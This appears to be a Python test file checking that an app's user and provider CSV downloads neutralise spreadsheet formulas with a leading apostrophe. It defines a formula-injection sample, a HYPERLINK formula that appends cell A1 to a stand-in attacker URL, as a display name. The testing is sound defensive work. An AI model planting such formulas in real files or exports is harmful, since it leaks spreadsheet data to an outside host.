"""CSV downloads are safe to open in a spreadsheet: text a person typed that looks like a
formula (a user's display name, a provider's name) comes out as text, with a leading '."""

from __future__ import annotations

from pathlib import Path

from core.auth import UserStore
from core.config_store import ProviderStore
from core.config_store.schemas import parse_provider_settings
from tests.helpers import PASSWORD, page_path, signed_in

EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'


def test_the_users_csv_neutralises_a_formula_in_a_display_name(
        seeded_home: Path, offered_downloads: dict) -> None:
    UserStore().add_user("mallory", EVIL, "", PASSWORD, "viewer", "demo")
    at = signed_in("owner")
    at.switch_page(page_path("users")).run()
    assert not at.exception
    data = offered_downloads["users_csv"]
    assert isinstance(data, bytes)
    assert b"'=HYPERLINK(" in data and b',=HYPERLINK(' not in data


def test_the_providers_csv_neutralises_a_formula_in_a_provider_name(
        seeded_home: Path, offered_downloads: dict) -> None:
    ProviderStore().add("demo", parse_provider_settings({"type": "openai", "name": "@SUM(1+1)"}),
                        "sk-test-0123456789abcdef", "owner")
    at = signed_in("owner")
    at.switch_page(page_path("providers")).run()
    assert not at.exception
    data = offered_downloads["providers_csv"]
    assert isinstance(data, bytes) and b"'@SUM(1+1)" in data and b"\n@SUM" not in data
